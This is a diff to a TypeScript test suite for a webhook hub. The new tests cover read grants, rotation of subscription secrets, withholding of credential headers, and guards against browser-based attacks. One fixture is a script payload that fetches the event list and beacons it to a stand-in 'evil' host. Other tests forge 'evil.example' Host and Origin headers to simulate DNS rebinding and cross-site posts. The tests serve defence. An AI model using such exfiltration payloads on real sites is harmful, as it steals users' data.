@@ -2,13 +2,14 @@
 // header instead of WhoIs, deliveries recorded instead of sent.
 import type { FastifyInstance } from 'fastify';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import type { HubStatus } from '@krkn/hub-api';
+import type { EventDetail, HubStatus } from '@krkn/hub-api';
 import type { HubStore } from '@krkn/hub-store';
-import { Hub, HubError, type Caller, type Identify } from '@krkn/hub';
+import { Hub, HubError, defaultCredentialHeaders, type Caller, type Identify } from '@krkn/hub';
 import { FakeNode, Recorder, silentLogger, tempStore } from './helpers.js';
 
 const capability = 'krkn.dev/cap/webhooks';
-const peer = (name: string, ip: string, grant?: { publish?: string[]; subscribe?: string[] }): Caller => ({
+type Grant = { publish?: string[]; subscribe?: string[]; read?: string[] };
+const peer = (name: string, ip: string, grant?: Grant): Caller => ({
   kind: 'peer',
   ip,
   nodeId: `n-${name}`,
@@ -18,9 +19,11 @@ const peer = (name: string, ip: string, grant?: { publish?: string[]; subscribe?
   capMap: grant ? { [capability]: [grant] } : {},
 });
 const callers: Record<string, Caller> = {
-  ci: peer('ci', '100.64.0.10', { publish: ['ci/**'], subscribe: ['ci/**'] }),
-  dev: peer('dev', '100.64.0.11', { subscribe: ['ci/*'] }),
+  ci: peer('ci', '100.64.0.10', { publish: ['ci/**'], subscribe: ['ci/**'], read: ['ci/**'] }),
+  dev: peer('dev', '100.64.0.11', { subscribe: ['ci/*'], read: ['ci/*'] }),
+  pushOnly: peer('push', '100.64.0.13', { subscribe: ['ci/**'] }),
   stranger: peer('stranger', '100.64.0.12'),
+  ops: peer('ops', '100.64.0.14', { read: ['**'] }),
   admin: { kind: 'admin' },
 };
 // The test's stand-in for WhoIs: the caller is named by a header (no header: not a tailnet node).
@@ -54,9 +57,10 @@ beforeEach(async () => {
       requireCapability: true,
       capabilityName: capability,
       maxConcurrentDeliveries: 4,
+      credentialHeaders: [...defaultCredentialHeaders, 'X-Shop-Token'],
     },
   });
-  app = await hub.app(identify, 'http://hub.krkn.test');
+  app = await hub.app(identify, { url: 'http://hub.krkn.test' });
   hub.start();
 });
 afterEach(async () => {
@@ -94,6 +98,7 @@ describe('publish', () => {
     expect(res.status).toBe(202);
     const { id, topic, duplicate } = res.json() as { id: string; topic: string; duplicate: boolean };
     expect({ topic, duplicate }).toEqual({ topic: 'ci/build', duplicate: false });
+    expect(id).toMatch(/^evt_[0-9a-z]+$/); // made of the hub's clock: whole milliseconds
     const stored = store.getEvent(id)!;
     expect(stored.body.equals(raw)).toBe(true);
     expect(stored.sender).toEqual({ ip: '100.64.0.10', node: 'ci.krkn.test', user: 'ci', tags: [] });
@@ -111,6 +116,8 @@ describe('publish', () => {
     ['a//b', 'an empty segment'],
     ['ci/bu ild', 'a space'],
     ['ci/*', 'a wildcard'],
+    ['ci/сборка', 'letters beyond Latin-1'],
+    ['ci/🚀', 'an emoji'],
   ])('answers 400 BAD_TOPIC for %s (%s)', async (topic) => {
     const res = await publish('ci', encodeURI(topic));
     expect([res.status, errorCode(res)]).toEqual([400, 'BAD_TOPIC']);
@@ -160,6 +167,25 @@ describe('subscriptions', () => {
     const all = (await call('admin', 'GET', '/subscriptions')).json() as { subscriptions: unknown[] };
     expect(mine.subscriptions.map((s) => s.id)).toEqual([subscription.id]);
     expect([theirs.subscriptions.length, all.subscriptions.length]).toEqual([0, 1]);
+  });
+
+  it('answers a subscription secret once: on creation and on rotation, never in a listing or a plain resubscribe', async () => {
+    type Info = { id: string; secret?: string };
+    const sub = async (body: object) => ((await subscribe('ci', body)).json() as { subscription: Info }).subscription;
+    const first = await sub({ topics: ['ci/*'], port: 8081 });
+    expect(first.secret).toMatch(/^whsec_/);
+    expect((await sub({ topics: ['ci/*'], port: 8081 })).secret).toBeUndefined();
+    const rotated = await sub({ topics: ['ci/*'], port: 8081, rotateSecret: true });
+    expect(rotated.secret).toMatch(/^whsec_/);
+    expect(rotated.secret).not.toBe(first.secret);
+    expect(store.getSubscription(first.id)).toMatchObject({
+      secret: rotated.secret,
+      previousSecret: { secret: first.secret, until: expect.any(Number) },
+    });
+    const listed = (await call('ci', 'GET', '/subscriptions')).json() as { subscriptions: Info[] };
+    expect(listed.subscriptions.every((s) => s.secret === undefined)).toBe(true);
+    const bad = await subscribe('ci', { topics: ['ci/*'], port: 8081, rotateSecret: 'yes' });
+    expect([bad.status, errorCode(bad)]).toEqual([400, 'BAD_REQUEST']);
   });
 
   it.each([
@@ -224,6 +250,15 @@ describe('events', () => {
     expect([bad.status, errorCode(bad)]).toEqual([400, 'BAD_REQUEST']);
   });
 
+  it.each(['topic=ci/*&topic=ci/**', 'limit=1&limit=2', 'after=a&after=b', 'since=1&since=2'])(
+    'answers 400 BAD_REQUEST, not 500, to a repeated query parameter (%s)',
+    async (query) => {
+      const res = await call('admin', 'GET', `/events?${query}`);
+      expect([res.status, errorCode(res)]).toEqual([400, 'BAD_REQUEST']);
+      expect((res.json() as { error: { message: string } }).error.message).toMatch(/must be given once/);
+    },
+  );
+
   it('serves one event with its headers and body, or 404 / 403', async () => {
     const id = ((await publish('ci', 'ci/build', 'hello', 'text/plain')).json() as { id: string }).id;
     type Detail = { event: { bodyBase64: string; contentType: string } };
@@ -238,28 +273,74 @@ describe('events', () => {
     expect([hidden.status, errorCode(hidden)]).toEqual([403, 'MISSING_CAPABILITY']);
   });
 
-  it('redelivers an event (202) from attempt one to every matching subscription', async () => {
-    await subscribe('ci', { topics: ['ci/*'], port: 80 });
+  it('lets a subscribe grant push events but not pull them: reading needs the read grant', async () => {
     const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
-    await until(() => store.deliveriesOf(id)[0]?.state === 'delivered');
+    expect((await subscribe('pushOnly', { topics: ['ci/**'], port: 80 })).status).toBe(201);
+    const one = await call('pushOnly', 'GET', `/events/${id}`);
+    expect([one.status, errorCode(one)]).toEqual([403, 'MISSING_CAPABILITY']);
+    expect((await call('pushOnly', 'GET', `/events/${id}/body`)).status).toBe(403);
+    expect((await call('pushOnly', 'GET', '/events')).json()).toEqual({ events: [] });
+  });
+
+  it('never returns credential headers (default and configured) through the API; the store keeps them', async () => {
+    const secret = {
+      authorization: 'Bearer s3cret',
+      cookie: 'session=abc',
+      'proxy-authorization': 'Basic eA==',
+      'x-shop-token': 'tok',
+      'x-hub-signature-256': 'sha256=00',
+    };
+    const headers = { ...secret, 'content-type': 'text/plain', 'x-test-caller': 'ci' };
+    const published = await app.inject({ method: 'POST', url: '/hooks/ci/build', headers, payload: 'x' });
+    const id = published.json<{ id: string }>().id;
+    for (const as of ['ci', 'admin']) {
+      const { event } = (await call(as, 'GET', `/events/${id}`)).json() as { event: EventDetail };
+      const names = event.headers.map(([k]) => k.toLowerCase());
+      expect(names).toContain('x-hub-signature-256');
+      expect(names.filter((n) => n in secret && n !== 'x-hub-signature-256')).toEqual([]);
+      // (Proxy-Authorization is hop-by-hop: never stored, so never withheld either.)
+      expect(event.withheldHeaders.sort()).toEqual(['authorization', 'cookie', 'x-shop-token']);
+    }
+    const stored = store.getEvent(id)!.headers.map(([k, v]) => `${k.toLowerCase()}: ${v}`);
+    expect(stored).toEqual(expect.arrayContaining(['authorization: Bearer s3cret', 'x-shop-token: tok']));
+  });
+
+  it('redelivers from attempt one (202): a peer to its own subscriptions, the admin socket to all', async () => {
+    const own = ((await subscribe('ci', { topics: ['ci/*'], port: 80 })).json() as { subscription: { id: string } });
+    await subscribe('dev', { topics: ['ci/*'], port: 80 });
+    const id = ((await publish('ci', 'ci/build')).json() as { id: string }).id;
+    await until(() => store.deliveriesOf(id).filter((d) => d.state === 'delivered').length === 2);
     const res = await call('ci', 'POST', `/events/${id}/redeliver`);
     expect([res.status, res.json()]).toEqual([202, { id, deliveries: 1 }]);
-    await until(() => rec.sent.length === 2);
-    expect(rec.sent.map((s) => [s.event, s.attempt])).toEqual([[id, 1], [id, 1]]);
+    await until(() => rec.sent.length === 3);
+    // Marked as a redelivery (a token), so a receiver that dedupes on the event id lets it through.
+    expect(rec.sent[2]).toMatchObject({ event: id, subscription: own.subscription.id, attempt: 1 });
+    const tokens = [rec.sent[0]!.redelivery, rec.sent[2]!.redelivery];
+    expect(tokens).toEqual([undefined, expect.stringMatching(/^[0-9a-z]+$/)]);
+    const all = await call('admin', 'POST', `/events/${id}/redeliver`);
+    expect([all.status, all.json()]).toEqual([202, { id, deliveries: 2 }]);
+    await until(() => rec.sent.length === 5);
     const missing = await call('ci', 'POST', '/events/evt_nope/redeliver');
     expect([missing.status, errorCode(missing)]).toEqual([404, 'EVENT_NOT_FOUND']);
   });
 });
 
 describe('the hub', () => {
-  it('answers 404 NOT_FOUND for an unknown route and serves /healthz and /status without identifying', async () => {
+  it('answers 404 NOT_FOUND to an unknown route, serves /healthz without identifying, /status to callers', async () => {
     const nope = await call('ci', 'GET', '/nope');
     expect([nope.status, errorCode(nope)]).toEqual([404, 'NOT_FOUND']);
     expect((await call(undefined, 'GET', '/healthz')).json()).toEqual({ ok: true });
     await publish('ci', 'ci/build');
-    const status = (await call(undefined, 'GET', '/status')).json() as HubStatus;
+    const status = (await call('stranger', 'GET', '/status')).json() as HubStatus;
     const expected = { node: { name: 'hub.krkn.test' }, listener: 'http://hub.krkn.test', storage: { events: 1 } };
     expect(status).toMatchObject(expected);
+  });
+
+  it('shows a pending login URL on /status to the admin socket only', async () => {
+    node.loginUrl = 'http://127.0.0.1:9/register/abc'; // whoever opens it first owns the next registration
+    const asPeer = (await call('ci', 'GET', '/status')).json() as HubStatus;
+    const asAdmin = (await call('admin', 'GET', '/status')).json() as HubStatus;
+    expect([asPeer.loginUrl, asAdmin.loginUrl]).toEqual([undefined, 'http://127.0.0.1:9/register/abc']);
   });
 
   it('answers 500 INTERNAL without the details when the store fails', async () => {
@@ -288,5 +369,93 @@ describe('the hub', () => {
     node.emit('peers');
     await until(() => store.deliveriesOf(id)[0]?.state === 'delivered');
     expect(rec.sent).toHaveLength(2);
+  });
+});
+
+describe('browsers on tailnet devices (the tailnet listener guards them)', () => {
+  let guarded: FastifyInstance;
+  beforeEach(async () => {
+    guarded = await hub.app(identify, { url: 'http://hub.krkn.test', guardBrowsers: true });
+  });
+  afterEach(async () => {
+    await guarded.close();
+  });
+  const send = (method: Method, url: string, headers: Record<string, string>, payload?: string) =>
+    guarded.inject({ method, url, headers: { 'x-test-caller': 'ci', ...headers }, ...(payload ? { payload } : {}) });
+  const code = (res: { json: () => unknown }) => (res.json() as { error: { code: string } }).error.code;
+
+  it("answers 421 to a Host that is none of krkns's names or addresses (DNS rebinding)", async () => {
+    const rebound = await send('GET', '/events', { host: 'evil.example' });
+    expect([rebound.statusCode, code(rebound)]).toEqual([421, 'MISDIRECTED_HOST']);
+    const unknown = await guarded.inject({ method: 'GET', url: '/events', headers: { host: 'evil.example:80' } });
+    expect([unknown.statusCode, code(unknown)]).toEqual([421, 'MISDIRECTED_HOST']);
+    const publish = await send('POST', '/hooks/ci/build', { host: 'evil.example', 'content-type': 'text/plain' }, 'x');
+    expect(publish.statusCode).toBe(421);
+    for (const host of ['hub.krkn.test', 'HUB.krkn.test.', 'hub', '100.64.0.1', '100.64.0.1:80']) {
+      expect([host, (await send('GET', '/events', { host })).statusCode]).toEqual([host, 200]);
+    }
+    expect(store.stats().events).toBe(0);
+  });
+
+  it('refuses a form-style cross-site POST (Sec-Fetch-Site, or Origin alone) and stores nothing', async () => {
+    const form = { host: 'hub.krkn.test', 'content-type': 'application/x-www-form-urlencoded' };
+    const evil = { 'sec-fetch-site': 'cross-site', origin: 'http://evil.example' };
+    const modern = await send('POST', '/hooks/ci/build', { ...form, ...evil }, 'a=1');
+    expect([modern.statusCode, code(modern)]).toEqual([403, 'CROSS_SITE']);
+    const older = await send('POST', '/hooks/ci/build', { ...form, origin: 'http://evil.example' }, 'a=1');
+    expect([older.statusCode, code(older)]).toEqual([403, 'CROSS_SITE']);
+    const sandboxed = await send('POST', '/hooks/ci/build', { ...form, origin: 'null' }, 'a=1');
+    expect([sandboxed.statusCode, code(sandboxed)]).toEqual([403, 'CROSS_SITE']);
+    expect(store.stats().events).toBe(0);
+    // Tools send neither header; a form-encoded webhook from one is a webhook like any other.
+    expect((await send('POST', '/hooks/ci/build', form, 'a=1')).statusCode).toBe(202);
+    const own = await send('POST', '/hooks/ci/build', { ...form, origin: 'http://hub.krkn.test' }, 'a=1');
+    expect(own.statusCode).toBe(202);
+  });
+
+  it('refuses the simple (form) content types on JSON routes, so a form cannot subscribe or redeliver', async () => {
+    const body = JSON.stringify({ topics: ['ci/**'], port: 80 });
+    const plain = await send('POST', '/subscriptions', { host: 'hub', 'content-type': 'text/plain' }, body);
+    expect([plain.statusCode, code(plain)]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
+    const published = await send('POST', '/hooks/ci/build', { host: 'hub', 'content-type': 'text/plain' }, 'x');
+    const multipart = { host: 'hub', 'content-type': 'multipart/form-data; boundary=x' };
+    const redeliver = await send('POST', `/events/${published.json<{ id: string }>().id}/redeliver`, multipart);
+    expect([redeliver.statusCode, code(redeliver)]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
+    const json = await send('POST', '/subscriptions', { host: 'hub', 'content-type': 'application/json' }, body);
+    expect(json.statusCode).toBe(201);
+  });
+
+  it('serves a stored body as an attachment, unsniffed, sandboxed', async () => {
+    const html = '<script>fetch("/events").then(r => r.text()).then(t => navigator.sendBeacon("//evil", t))</script>';
+    const published = await send('POST', '/hooks/ci/page', { host: 'hub', 'content-type': 'text/html' }, html);
+    const id = published.json<{ id: string }>().id;
+    const res = await send('GET', `/events/${id}/body`, { host: 'hub' });
+    expect(res.body).toBe(html);
+    expect(res.headers).toMatchObject({
+      'content-type': 'text/html',
+      'x-content-type-options': 'nosniff',
+      'content-disposition': `attachment; filename="${id}"`,
+      'content-security-policy': "sandbox; default-src 'none'",
+    });
+  });
+});
+
+describe('GET /metrics', () => {
+  it('answers 404 while metrics are off', async () => {
+    const res = await call('admin', 'GET', '/metrics');
+    expect([res.status, errorCode(res)]).toEqual([404, 'NOT_FOUND']);
+  });
+
+  it('serves the page to a caller with the read right on every topic, 403 to narrower grants', async () => {
+    hub.exposeMetrics(async () => ({ contentType: 'text/plain; version=0.0.4', body: 'krkn_up 1\n' }));
+    for (const who of ['ops', 'admin']) {
+      const res = await call(who, 'GET', '/metrics');
+      expect([res.status, res.body, res.headers['content-type']]).toEqual([200, 'krkn_up 1\n', 'text/plain; version=0.0.4']);
+    }
+    for (const who of ['ci', 'dev', 'stranger']) {
+      const res = await call(who, 'GET', '/metrics');
+      expect([res.status, errorCode(res)], who).toEqual([403, 'MISSING_CAPABILITY']);
+    }
+    expect((await call(undefined, 'GET', '/metrics')).status).toBe(403);
   });
 });
